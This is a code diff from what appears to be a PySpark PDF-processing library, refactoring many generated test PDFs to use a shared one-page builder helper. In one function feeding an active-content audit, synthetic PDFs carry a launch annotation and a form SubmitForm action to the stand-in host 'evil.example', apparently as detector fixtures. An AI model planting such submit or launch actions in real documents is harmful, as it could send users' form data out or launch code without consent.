@@ -271,27 +271,12 @@ def _qx05(spark: SparkSession, sf: str) -> DataFrame:
             ops.append(b"1 0 0 1 " + _n(LEFT_X) + b" " + _n(y) + b" Tm")
             ops.append(b"(" + esc(line) + b") Tj")
         ops.append(b"ET")
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
         cont = b.stream(b"\n".join(ops), filters="FlateDecode")
-        b.set(cat, b"<</Type/Catalog/Pages " + str(pages_id).encode() + b" 0 R>>")
-        b.set(
-            pages_id,
-            b"<</Type/Pages/Kids[" + str(page).encode() + b" 0 R]/Count 1>>",
-        )
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode() + b" 0 R"
-            b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode() + b" 0 R>>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R>>",
-        )
         yield {
             "url": str(doc_id),
-            "html": b.build(cat),
+            "html": b.build(b.page_tree(font, cont)),
             "n_lines": len(lines),
         }
 
@@ -596,10 +581,7 @@ def _qx10(spark: SparkSession, sf: str) -> DataFrame:
         canonical = f"https://example.com/doc/{i}"
         lines = wrap_lines(text if isinstance(text, str) else "")
 
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(_content_td_tj(lines), filters="FlateDecode")
         t16 = b"\xfe\xff" + title.encode("utf-16-be")
@@ -611,16 +593,10 @@ def _qx10(spark: SparkSession, sf: str) -> DataFrame:
             b"<</Title(" + _escb(t16) + b")/Author("
             + author.encode() + b")/CreationDate(" + date + b")>>"
         )
-        b.set(cat, b"<</Type/Catalog/Pages " + str(pages_id).encode() + b" 0 R>>")
-        b.set(pages_id, b"<</Type/Pages/Kids[" + str(page).encode() + b" 0 R]/Count 1>>")
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode() + b" 0 R"
-            b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode() + b" 0 R>>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R>>",
+        pdf = b.build(
+            b.page_tree(font, cont),
+            trailer_extra=b"/Info " + str(info).encode() + b" 0 R",
         )
-        pdf = b.build(cat, trailer_extra=b"/Info " + str(info).encode() + b" 0 R")
 
         page_html = (
             f'<!doctype html><html lang="{lang}"><head>'
@@ -686,10 +662,7 @@ def _qx11(spark: SparkSession, sf: str) -> DataFrame:
 
     def links(i, text):
         lines = wrap_lines(text if isinstance(text, str) else "")
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(_content_td_tj(lines), filters="FlateDecode")
         uris = (
@@ -707,19 +680,7 @@ def _qx11(spark: SparkSession, sf: str) -> DataFrame:
         annots.append(
             b.add(b"<</Type/Annot/Subtype/Text/Rect[0 0 1 1]>>")
         )
-        b.set(cat, b"<</Type/Catalog/Pages " + str(pages_id).encode() + b" 0 R>>")
-        b.set(pages_id, b"<</Type/Pages/Kids[" + str(page).encode() + b" 0 R]/Count 1>>")
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode() + b" 0 R"
-            b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode() + b" 0 R>>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R"
-            b"/Annots["
-            + b" ".join(str(a).encode() + b" 0 R" for a in annots)
-            + b"]>>",
-        )
-        pdf = b.build(cat)
+        pdf = b.build(b.page_tree(font, cont, annots=annots))
         for href in extract_pdf_links(Resolver(pdf)):
             yield {"href": href, "n": 1}
 
@@ -834,10 +795,7 @@ def _qx13(spark: SparkSession, sf: str) -> DataFrame:
 
     def outline(i, text):
         n_ch = 1 + i % 3
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(
             _content_td_tj(wrap_lines(text if isinstance(text, str) else "")),
@@ -866,17 +824,8 @@ def _qx13(spark: SparkSession, sf: str) -> DataFrame:
                 b"<</Title(Section " + str(c).encode() + b".1)/Parent "
                 + r(chapters[c]) + b">>",
             )
-        b.set(cat, b"<</Type/Catalog/Pages " + r(pages_id)
-              + b"/Outlines " + r(root) + b">>")
-        b.set(pages_id, b"<</Type/Pages/Kids[" + r(page) + b"]/Count 1>>")
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + r(pages_id)
-            + b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + r(font) + b">>>>"
-            b"/Contents " + r(cont) + b">>",
-        )
-        items = extract_pdf_outline(Resolver(b.build(cat)))
+        root_id = b.page_tree(font, cont, catalog=b"/Outlines " + r(root))
+        items = extract_pdf_outline(Resolver(b.build(root_id)))
         for pos, (level, title) in enumerate(items):
             yield {"doc_id": i, "pos": pos, "level": level, "title": title}
 
@@ -1338,10 +1287,7 @@ def _qx21(spark: SparkSession, sf: str) -> DataFrame:
     )
 
     def fields(i):
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(_content_td_tj(["form doc"]), filters="FlateDecode")
         f1 = b.reserve()
@@ -1380,24 +1326,9 @@ def _qx21(spark: SparkSession, sf: str) -> DataFrame:
             )
             + b"]>>"
         )
-        b.set(
-            cat,
-            b"<</Type/Catalog/Pages " + str(pages_id).encode()
-            + b" 0 R/AcroForm " + str(acro).encode() + b" 0 R>>",
+        pdf = b.build(
+            b.page_tree(font, cont, catalog=b"/AcroForm %d 0 R" % acro)
         )
-        b.set(
-            pages_id,
-            b"<</Type/Pages/Kids[" + str(page).encode()
-            + b" 0 R]/Count 1>>",
-        )
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode() + b" 0 R"
-            b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode() + b" 0 R>>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R>>",
-        )
-        pdf = b.build(cat)
         for fname, ftype, val in extract_form_fields(Resolver(pdf)):
             yield {"doc_id": i, "field": fname, "ftype": ftype, "value": val}
 
@@ -1448,10 +1379,7 @@ def _qx22(spark: SparkSession, sf: str) -> DataFrame:
 
     def inventory(i):
         w, h = 100 + i % 50, 50 + i % 40
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(_content_td_tj(["img doc"]), filters="FlateDecode")
         imgs = [
@@ -1485,18 +1413,8 @@ def _qx22(spark: SparkSession, sf: str) -> DataFrame:
             b"/Im" + str(k).encode() + b" " + str(o).encode() + b" 0 R"
             for k, o in enumerate(imgs)
         )
-        b.set(cat, b"<</Type/Catalog/Pages " + str(pages_id).encode() + b" 0 R>>")
-        b.set(pages_id, b"<</Type/Pages/Kids[" + str(page).encode()
-                      + b" 0 R]/Count 1>>")
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode() + b" 0 R"
-            b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode() + b" 0 R>>"
-            b"/XObject<<" + xo + b">>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R>>",
-        )
-        rows = extract_image_inventory(Resolver(b.build(cat)))
+        root = b.page_tree(font, cont, resources=b"/XObject<<" + xo + b">>")
+        rows = extract_image_inventory(Resolver(b.build(root)))
         yield {
             "doc_id": i,
             "n_images": len(rows),
@@ -1728,10 +1646,7 @@ def _grid_pdf(doc_id: int) -> bytes:
 
     rows = doc_id % 3 + 2
     cols = doc_id % 4 + 2
-    b = PdfBuilder()
-    cat = b.reserve()
-    pages = b.reserve()
-    page = b.reserve()
+    b = PdfBuilder.one_page()
     font = b.add(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
     ops = [b"BT /F1 10 Tf"]
     for r in range(rows):
@@ -1742,16 +1657,7 @@ def _grid_pdf(doc_id: int) -> bytes:
             )
     ops.append(b"ET")
     cont = b.stream(b"\n".join(ops))
-    b.set(cat, b"<</Type/Catalog/Pages " + str(pages).encode() + b" 0 R>>")
-    b.set(pages, b"<</Type/Pages/Kids[" + str(page).encode() + b" 0 R]/Count 1>>")
-    b.set(
-        page,
-        b"<</Type/Page/Parent " + str(pages).encode() + b" 0 R"
-        b"/MediaBox[0 0 612 792]"
-        b"/Resources<</Font<</F1 " + str(font).encode() + b" 0 R>>>>"
-        b"/Contents " + str(cont).encode() + b" 0 R>>",
-    )
-    return b.build(cat)
+    return b.build(b.page_tree(font, cont))
 
 
 def _qx26(spark: SparkSession, sf: str) -> DataFrame:
@@ -1801,10 +1707,7 @@ def _heading_pdf(doc_id: int) -> bytes:
     from pdf_spark.gen.pdfgen import PdfBuilder
 
     k = doc_id % 3 + 1
-    b = PdfBuilder()
-    cat = b.reserve()
-    pages = b.reserve()
-    page = b.reserve()
+    b = PdfBuilder.one_page()
     font = b.add(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
     ops = [b"BT"]
     y = 720
@@ -1820,16 +1723,7 @@ def _heading_pdf(doc_id: int) -> bytes:
             y -= 16
     ops.append(b"ET")
     cont = b.stream(b"\n".join(ops))
-    b.set(cat, b"<</Type/Catalog/Pages " + str(pages).encode() + b" 0 R>>")
-    b.set(pages, b"<</Type/Pages/Kids[" + str(page).encode() + b" 0 R]/Count 1>>")
-    b.set(
-        page,
-        b"<</Type/Page/Parent " + str(pages).encode() + b" 0 R"
-        b"/MediaBox[0 0 612 792]"
-        b"/Resources<</Font<</F1 " + str(font).encode() + b" 0 R>>>>"
-        b"/Contents " + str(cont).encode() + b" 0 R>>",
-    )
-    return b.build(cat)
+    return b.build(b.page_tree(font, cont))
 
 
 def _qx27(spark: SparkSession, sf: str) -> DataFrame:
@@ -1938,10 +1832,7 @@ def _qx29(spark: SparkSession, sf: str) -> DataFrame:
     )
 
     def annots(i):
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(
             _content_td_tj(["annotated"]), filters="FlateDecode"
@@ -1975,28 +1866,7 @@ def _qx29(spark: SparkSession, sf: str) -> DataFrame:
                     b"/Contents(hl " + str(i % 7).encode() + b")>>"
                 )
             )
-        b.set(
-            cat,
-            b"<</Type/Catalog/Pages " + str(pages_id).encode()
-            + b" 0 R>>",
-        )
-        b.set(
-            pages_id,
-            b"<</Type/Pages/Kids[" + str(page).encode()
-            + b" 0 R]/Count 1>>",
-        )
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode() + b" 0 R"
-            b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode()
-            + b" 0 R>>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R"
-            b"/Annots["
-            + b" ".join(str(a).encode() + b" 0 R" for a in ids)
-            + b"]>>",
-        )
-        pdf = b.build(cat)
+        pdf = b.build(b.page_tree(font, cont, annots=ids))
         for page_no, subtype, text in extract_annotation_texts(
             Resolver(pdf)
         ):
@@ -2160,10 +2030,7 @@ def _qx31(spark: SparkSession, sf: str) -> DataFrame:
         ]
     )
     def attachments(i):
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(
             _content_td_tj(["attached"]), filters="FlateDecode"
@@ -2204,7 +2071,7 @@ def _qx31(spark: SparkSession, sf: str) -> DataFrame:
             b"<</Kids[" + str(kid1).encode() + b" 0 R "
             + str(kid2).encode() + b" 0 R]>>"
         )
-        annots = b""
+        annots = []
         if i % 2 == 0:
             note = f"note {i % 7}".encode()
             ef3 = b.add(
@@ -2221,28 +2088,11 @@ def _qx31(spark: SparkSession, sf: str) -> DataFrame:
                 b"<</Type/Annot/Subtype/FileAttachment"
                 b"/Rect[0 0 9 9]/FS " + str(spec3).encode() + b" 0 R>>"
             )
-            annots = b"/Annots[" + str(a).encode() + b" 0 R]"
-        b.set(
-            cat,
-            b"<</Type/Catalog/Pages " + str(pages_id).encode()
-            + b" 0 R/Names<</EmbeddedFiles " + str(root).encode()
-            + b" 0 R>>>>",
+            annots = [a]
+        catalog = b"/Names<</EmbeddedFiles %d 0 R>>" % root
+        pdf = b.build(
+            b.page_tree(font, cont, catalog=catalog, annots=annots)
         )
-        b.set(
-            pages_id,
-            b"<</Type/Pages/Kids[" + str(page).encode()
-            + b" 0 R]/Count 1>>",
-        )
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode() + b" 0 R"
-            b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode()
-            + b" 0 R>>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R" + annots
-            + b">>",
-        )
-        pdf = b.build(cat)
         for row in extract_embedded_files(Resolver(pdf)):
             yield dict(zip(schema.names, (i, *row)))
 
@@ -2650,10 +2500,7 @@ def _qx35(spark: SparkSession, sf: str) -> DataFrame:
     def rows(i):
         if i % 5 == 4:
             return  # unsigned doc: no row
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(
             _content_td_tj(["signed"]), filters="FlateDecode"
@@ -2677,26 +2524,8 @@ def _qx35(spark: SparkSession, sf: str) -> DataFrame:
             b"<</FT/Sig/T(Sig1)/V " + str(sig).encode() + b" 0 R"
             b"/Type/Annot/Subtype/Widget/Rect[0 0 0 0]>>"
         )
-        b.set(
-            cat,
-            b"<</Type/Catalog/Pages " + str(pages_id).encode()
-            + b" 0 R/AcroForm<</SigFlags 3/Fields["
-            + str(fld).encode() + b" 0 R]>>>>",
-        )
-        b.set(
-            pages_id,
-            b"<</Type/Pages/Kids[" + str(page).encode()
-            + b" 0 R]/Count 1>>",
-        )
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode()
-            + b" 0 R/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode()
-            + b" 0 R>>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R>>",
-        )
-        raw = b.build(cat)
+        catalog = b"/AcroForm<</SigFlags 3/Fields[%d 0 R]>>" % fld
+        raw = b.build(b.page_tree(font, cont, catalog=catalog))
         # patch the ByteRange placeholder to the real [0 a b c]
         # (same byte length -> xref offsets stay valid)
         hole_a = raw.index(b"/Contents<") + len(b"/Contents")
@@ -2997,10 +2826,7 @@ def _qx38(spark: SparkSession, sf: str) -> DataFrame:
     def build_doc(i: int) -> bytes:
         from pdf_spark.core.ccitt import encode_ccitt_g3_1d, encode_ccitt_g4
 
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(_content_td_tj(["img"]), filters="FlateDecode")
         w, h = 8 + i % 5, 8 + i % 3
@@ -3069,18 +2895,9 @@ def _qx38(spark: SparkSession, sf: str) -> DataFrame:
             b"/Im" + str(k).encode() + b" " + str(o).encode() + b" 0 R"
             for k, o in enumerate((im0, im1, im2, im3, im4, im5))
         )
-        b.set(cat, b"<</Type/Catalog/Pages " + str(pages_id).encode() + b" 0 R>>")
-        b.set(pages_id, b"<</Type/Pages/Kids[" + str(page).encode()
-                      + b" 0 R]/Count 1>>")
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode() + b" 0 R"
-            b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode() + b" 0 R>>"
-            b"/XObject<<" + xo + b">>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R>>",
+        return b.build(
+            b.page_tree(font, cont, resources=b"/XObject<<" + xo + b">>")
         )
-        return b.build(cat)
 
     def run(i):
         rows = extract_embedded_images(Resolver(build_doc(i)))
@@ -3149,10 +2966,7 @@ def _qx39(spark: SparkSession, sf: str) -> DataFrame:
 
     def build_doc(i: int) -> bytes:
         v = ((i % 7) * 41) % 192 + 32
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         font = b.add(F_HELV)
         cont = b.stream(_content_td_tj(["logo"]), filters="FlateDecode")
         if i % 2 == 0:
@@ -3172,18 +2986,9 @@ def _qx39(spark: SparkSession, sf: str) -> DataFrame:
                     b"/ColorSpace/DeviceGray/Filter/DCTDecode"
                 ),
             )
-        b.set(cat, b"<</Type/Catalog/Pages " + str(pages_id).encode() + b" 0 R>>")
-        b.set(pages_id, b"<</Type/Pages/Kids[" + str(page).encode()
-                      + b" 0 R]/Count 1>>")
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode() + b" 0 R"
-            b"/MediaBox[0 0 612 792]"
-            b"/Resources<</Font<</F1 " + str(font).encode() + b" 0 R>>"
-            b"/XObject<</Logo " + str(logo).encode() + b" 0 R>>>>"
-            b"/Contents " + str(cont).encode() + b" 0 R>>",
+        return b.build(
+            b.page_tree(font, cont, resources=b"/XObject<</Logo %d 0 R>>" % logo)
         )
-        return b.build(cat)
 
     def run(i):
         rows = extract_embedded_images(Resolver(build_doc(i)))
@@ -3518,14 +3323,11 @@ def _qx75(spark: SparkSession, sf: str) -> DataFrame:
     def _make(i: int) -> bytes:
         from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj
 
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         b.add(F_HELV)  # font (unreferenced annots-only docs keep it too)
         cont = b.stream(_content_td_tj([f"audit {i}"]))
         fam = i % 4
-        annots = b""
+        annots = []
         extra = b""
         if fam == 0:
             link = b.add(
@@ -3533,8 +3335,8 @@ def _qx75(spark: SparkSession, sf: str) -> DataFrame:
                 b"/A<</S/URI/URI(https://example.com/" + str(i).encode()
                 + b")>>>>"
             )
-            annots = b"/Annots[" + str(link).encode() + b" 0 R]"
-            extra = b"/OpenAction[" + str(page).encode() + b" 0 R/Fit]"
+            annots = [link]
+            extra = b"/OpenAction[%d 0 R/Fit]" % b.PAGE
         elif fam == 1:
             k = i % 3 + 1
             pairs = b" ".join(
@@ -3563,27 +3365,8 @@ def _qx75(spark: SparkSession, sf: str) -> DataFrame:
                 b"<</Type/Annot/Subtype/Widget/Rect[0 30 50 50]"
                 b"/A<</S/SubmitForm/F(https://evil.example/post)>>>>"
             )
-            annots = (
-                b"/Annots[" + str(launch).encode() + b" 0 R "
-                + str(submit).encode() + b" 0 R]"
-            )
-        b.set(
-            cat,
-            b"<</Type/Catalog/Pages " + str(pages_id).encode() + b" 0 R"
-            + extra + b">>",
-        )
-        b.set(
-            pages_id,
-            b"<</Type/Pages/Kids[" + str(page).encode()
-            + b" 0 R]/Count 1>>",
-        )
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode()
-            + b" 0 R/MediaBox[0 0 612 792]/Contents "
-            + str(cont).encode() + b" 0 R" + annots + b">>",
-        )
-        return b.build(cat)
+            annots = [launch, submit]
+        return b.build(b.page_tree(None, cont, catalog=extra, annots=annots))
 
     from pdf_spark.core.document import Resolver
     from pdf_spark.core.meta import active_content_audit
@@ -3645,10 +3428,7 @@ def _qx76(spark: SparkSession, sf: str) -> DataFrame:
     def _make(i: int) -> bytes:
         from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj
 
-        b = PdfBuilder()
-        cat = b.reserve()
-        pages_id = b.reserve()
-        page = b.reserve()
+        b = PdfBuilder.one_page()
         b.add(F_HELV)
         cont = b.stream(_content_td_tj([f"census {i}"]))
         fam = i % 3
@@ -3691,23 +3471,7 @@ def _qx76(spark: SparkSession, sf: str) -> DataFrame:
                 b"/MarkInfo<</Marked true>>/StructTreeRoot "
                 + str(root).encode() + b" 0 R"
             )
-        b.set(
-            cat,
-            b"<</Type/Catalog/Pages " + str(pages_id).encode() + b" 0 R"
-            + extra + b">>",
-        )
-        b.set(
-            pages_id,
-            b"<</Type/Pages/Kids[" + str(page).encode()
-            + b" 0 R]/Count 1>>",
-        )
-        b.set(
-            page,
-            b"<</Type/Page/Parent " + str(pages_id).encode()
-            + b" 0 R/MediaBox[0 0 612 792]/Contents "
-            + str(cont).encode() + b" 0 R>>",
-        )
-        return b.build(cat)
+        return b.build(b.page_tree(None, cont, catalog=extra))
 
     from pdf_spark.core.document import Resolver
     from pdf_spark.core.meta import struct_census
